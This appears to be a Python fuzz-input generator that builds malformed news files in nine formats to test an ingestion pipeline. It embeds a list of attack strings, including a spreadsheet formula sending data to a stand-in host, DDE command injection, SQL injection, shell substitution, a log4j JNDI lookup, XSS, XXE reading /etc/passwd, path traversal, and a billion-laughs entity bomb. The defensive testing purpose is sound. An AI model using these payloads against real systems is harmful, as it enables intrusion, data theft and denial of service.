"""Inputs that mean harm, made from a seed: whole ones of every format, mutated, nested, wrapped, misnamed, with hostile text in every field."""

from __future__ import annotations

import gzip
import io
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass

from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

CANARY = "canary-7f3a9c"
"""Stands in a file outside the folder. It may turn up nowhere."""

TEXT = "A lorry hit a bridge near Arad on Sunday. Five people were hurt and two are missing, the fire brigade said on 12 May 2024. "

HOSTILE = [
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "＝1+1",
    "'; DROP TABLE raw.documents; --", "\"); ATTACH 'pwned.db'; --", "$(touch pwned)", "`touch pwned`", "{{7*7}}", "${jndi:ldap://x.example/a}", "%s%s%n",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "]]><evil/>", "<!-- -->", "&#0;&#xD800;&#x110000;", "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "\x1b[2J\x1b]0;owned\x07", "\x9b31m", "\x00", "\x08\x08\x08", "\u202edesrever\u202c", "\u2066\u2069\u200b\u200e\ufeff", "а́е́о́ (раураl)", "Ａｒａｄ", "ﷺ" * 20, "e" + "\u0301" * 500,
    "\ud800", "\udfff\ud800", "\U0010ffff\ufffe\uffff", "🏴\U000e0067\U000e0062\U000e007f", "../../etc/passwd", "file:///etc/passwd", "\r\nSet-Cookie: x=1\r\n", "\u2028\u2029\x85\x0b\x0c",
    "9" * 400, "1e999", "-0", "NaN", "Infinity", "0x" + "f" * 50, "12 May 99999", "31 February 2024", "1,2,3," * 50, "one hundred " * 60, "at least " * 60, "(" * 300, "\"" * 300, "“" * 99,
    ". " * 300, "Mr. " * 100, "A" * 3000, "said " * 200, "on Monday " * 100, "killed " * 100,
]  # fmt: skip

NAMES = [
    b"plain", b"new\nline", b"tab\there", b"=1+1", b"-rf", b"'; DROP TABLE x; --", b"<b>x</b>", b"\x1b[31m", b"caf\xe9", "‮txt".encode(), b"a" * 200, b" ", b"..x",
    b"$(touch pwned)", b"%00", b"con", "а".encode(), b"x" + b"\xff" * 30, b"{}", b"*?[a]",
]  # fmt: skip


@dataclass(frozen=True)
class Input:
    """A file: its name below the folder, as bytes, and what is in it."""

    name: bytes
    data: bytes
    how: str


def base(kind: str, rng: random.Random) -> bytes:
    """A whole file of a format, with something hostile in a field of it, half of the time."""
    text = TEXT * rng.randint(1, 4)
    title, source = "Lorry hits bridge near Arad", "Arad Post"
    if rng.random() < 0.5:
        evil = rng.choice(HOSTILE)
        at = rng.randrange(len(text))
        text = text[:at] + evil + text[at:]
        title, source = rng.choice([(title, evil), (evil, source), (evil, evil)])
    return MAKERS[kind](text, title, source, rng)


def _raw(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


def _txt(text: str, title: str, source: str, rng: random.Random) -> bytes:
    return _raw(f"{title}\n\n{source}\n12 May 2024\n\n{text}")


def _md(text: str, title: str, source: str, rng: random.Random) -> bytes:
    return _raw(f"---\ntitle: {title}\nsource: {source}\n---\n# {title}\n\n**{text}**\n\n> [x]({source})\n")


def _html(text: str, title: str, source: str, rng: random.Random) -> bytes:
    return _raw(
        f'<html><head><meta charset="{rng.choice(["utf-8", "utf-16", "rot13", "idna", "unicode_escape", "zip", title[:9]])}"><title>{title}</title>'
        f'<meta property="og:site_name" content="{source}"><link rel="canonical" href="{title}"></head><body><article><p>{text}</p></article></body></html>'
    )


def _fields(text: str, title: str, source: str, rng: random.Random) -> dict[str, object]:
    odd = rng.choice([None, 1, 1.5, True, [], {}, "x", source, 10**30])
    return {
        "doc_id": rng.choice([odd, f"d{rng.random()}"]),
        "source": source,
        "published": rng.choice([title, "2024-05-12", odd]),
        "title": title,
        "text": text,
        "url": odd,
    }


def _jsonl(text: str, title: str, source: str, rng: random.Random) -> bytes:
    return b"".join(json.dumps(_fields(text, title, source, rng)).encode() + b"\n" for _ in range(rng.randint(1, 4)))


def _csv(text: str, title: str, source: str, rng: random.Random) -> bytes:
    cell = lambda value: '"' + str(value).replace('"', '""') + '"'  # noqa: E731
    return _raw("source,title,text\n" + f"{cell(source)},{cell(title)},{cell(text)}\n" * rng.randint(1, 3))


def _feed(text: str, title: str, source: str, rng: random.Random) -> bytes:
    items = f"<item><title>{title}</title><link>http://x.example/{rng.random()}</link><source>{source}</source><description><![CDATA[{text}]]></description></item>"
    return _raw(f'<?xml version="1.0"?><rss version="2.0"><channel><title>{source}</title>{items * rng.randint(1, 3)}</channel></rss>')


def _atom(text: str, title: str, source: str, rng: random.Random) -> bytes:
    entry = f'<entry><id>{title}</id><title>{title}</title><updated>{source}</updated><content type="html">{text}</content></entry>'
    return _raw(f'<feed xmlns="http://www.w3.org/2005/Atom"><title>{source}</title>{entry}</feed>')


def _ninjs(text: str, title: str, source: str, rng: random.Random) -> bytes:
    item = {
        "uri": f"urn:{rng.random()}",
        "headline": title,
        "body_html": text,
        "versioncreated": title,
        "infosource": [{"name": source}, 3, None],
    }
    return json.dumps([item, {"uri": title}, title] if rng.random() < 0.5 else item).encode()


def _warc(text: str, title: str, source: str, rng: random.Random) -> bytes:
    stream = io.BytesIO()
    writer = WARCWriter(stream, gzip=False)
    for kind, media in rng.sample([("html", "text/html"), ("feed", "text/xml"), ("txt", "text/plain"), ("ninjs", "application/json")], 2):
        body = MAKERS[kind](text, title, source, rng)
        headers = [("Content-Type", f"{media}; charset={rng.choice(['utf-8', 'rot13', 'x'])}")]
        if rng.random() < 0.3:
            headers.append(("Content-Encoding", rng.choice(["gzip", "deflate", "br", "x"])))
        if rng.random() < 0.2:
            headers.append(("Transfer-Encoding", "chunked"))
        http = StatusAndHeaders("200 OK", headers, protocol="HTTP/1.1")
        writer.write_record(
            writer.create_warc_record(f"http://x.example/{rng.random()}", "response", payload=io.BytesIO(body), http_headers=http)
        )
    return stream.getvalue()


MAKERS = {"txt": _txt, "md": _md, "html": _html, "jsonl": _jsonl, "csv": _csv, "feed": _feed, "atom": _atom, "ninjs": _ninjs, "warc": _warc}
SUFFIX = {
    "txt": ".txt",
    "md": ".md",
    "html": ".html",
    "jsonl": ".jsonl",
    "csv": ".csv",
    "feed": ".xml",
    "atom": ".atom",
    "ninjs": ".json",
    "warc": ".warc",
}


def mutated(data: bytes, rng: random.Random) -> tuple[bytes, str]:
    """The bytes changed in one to four ways, and the last way's name."""
    how = "whole"
    for _ in range(rng.randint(0, 4)):
        how = rng.choice(["flip", "cut", "drop", "double", "insert", "swap", "hostile", "widen", "repeat"])
        at, to = sorted((rng.randrange(len(data) + 1), rng.randrange(len(data) + 1)))
        to = min(to, at + 400)
        match how:
            case "flip":
                data = b"".join(bytes([byte ^ (1 << rng.randrange(8)) if rng.random() < 0.01 else byte]) for byte in data)
            case "cut":
                data = data[:at]
            case "drop":
                data = data[:at] + data[to:]
            case "double":
                data = data[:to] + data[at:]
            case "insert":
                data = data[:at] + rng.randbytes(rng.randint(1, 40)) + data[at:]
            case "swap":
                data = data[to:] + data[:to]
            case "hostile":
                data = data[:at] + _raw(rng.choice(HOSTILE)) + data[at:]
            case "widen":
                data = data.decode("utf-8", "replace").encode(rng.choice(["utf-16", "utf-32", "cp1251", "utf-16-be"]), "replace")
            case "repeat":
                data = data[:at] + data[at:to] * rng.randint(2, 200) + data[to:]
    return data, how


def nested(rng: random.Random) -> tuple[str, bytes]:
    """A format and a file that nests or repeats without end."""
    deep = rng.choice([100, 3_000, 50_000])
    return rng.choice(
        [
            ("html", b"<html><body>" + b"<div>" * deep + TEXT.encode() + b"</div>" * deep),
            ("html", b"<b><i><p>" * deep + TEXT.encode()),
            ("html", b"<table><tr><td>" * deep + TEXT.encode()),
            ("html", b"<p " + b"a=1 " * deep + b">" + TEXT.encode()),
            ("html", b"<!--" * deep + b"<svg><math>" * min(deep, 3000)),
            ("html", b"<p>" + b"&amp;" * deep + b"&" * deep + b"</p>" + TEXT.encode()),
            ("md", b">" * deep + TEXT.encode()),
            ("md", b"[" * deep + b"](" * deep),
            ("md", b"*_" * deep + b"a"),
            ("md", b"- " * min(deep, 3000) + b"x"),
            ("md", b"`" * deep + b"\n" + b"<" * deep),
            ("ninjs", b"[" * deep + b"]" * deep),
            ("ninjs", b'{"a":' * deep),
            ("ninjs", b'{"uri":"u","body_html":"' + b"<div>" * deep + b'x"}'),
            ("jsonl", b'{"text":' + b"[" * deep + b"\n"),
            ("jsonl", b'{"text": "x", "doc_id": ' + b"9" * deep + b"}\n"),
            ("csv", b"text\n" + b'"' * deep),
            ("csv", b"text" + b"," * deep + b"\n"),
            ("csv", b"text\n" + b"\r" * deep + b"x\n"),
            ("feed", b"<rss><channel>" + b"<item>" * deep + b"</channel></rss>"),
            ("feed", b"<rss version='2.0'><channel>" + b"<item><title>x</title></item>" * min(deep, 3000) + b"</channel></rss>"),
            ("feed", b"<a>" * deep),
            ("feed", billion_laughs()),
            (
                "feed",
                b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///CANARY">]><rss version="2.0"><channel><item><title>&x;</title></item></channel></rss>',
            ),
            ("warc", b"WARC/1.0\r\n" + b"A: b\r\n" * deep + b"\r\n"),
            ("warc", b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: " + b"9" * 30 + b"\r\n\r\nHTTP/1.1 200 OK\r\n\r\n"),
            (
                "warc",
                b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: -5\r\nWARC-Target-URI: http://x/\r\n\r\nHTTP/1.1 200 OK\r\n\r\nx",
            ),
            ("txt", b"1 " * deep),
            ("txt", b"(" * deep),
            ("txt", ("e" + "\u0301" * deep).encode()),
        ]
    )


def billion_laughs() -> bytes:
    """Entities that unfold to 10^9."""
    entities = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    return f'<!DOCTYPE r [<!ENTITY a0 "lol">{entities}]><rss version="2.0"><channel><title>&a9;</title><item><title>&a9;</title></item></channel></rss>'.encode()


def inputs(count: int, seed: int = 0) -> Iterator[Input]:
    """So many inputs, the same for the same seed."""
    rng = random.Random(seed)
    kinds = list(MAKERS)
    for number in range(count):
        kind = kinds[number % len(kinds)]
        if rng.random() < 0.08:
            kind, data = nested(rng)
            how = "nested"
        else:
            data, how = mutated(base(kind, rng), rng)
        suffix = SUFFIX[kind]
        if rng.random() < 0.05:
            suffix, how = SUFFIX[rng.choice(kinds)], f"{how}, misnamed"
        if rng.random() < 0.15:
            data, suffix, how = gzip.compress(data), f"{suffix}.gz", f"{how}, gzip"
            if rng.random() < 0.5:
                data, broken = mutated(data, rng)
                how = f"{how} {broken}"
        name = rng.choice(NAMES) if rng.random() < 0.2 else b"f"
        yield Input(b"%s-%d%s" % (name, number, suffix.encode()), data, f"{kind}: {how}")
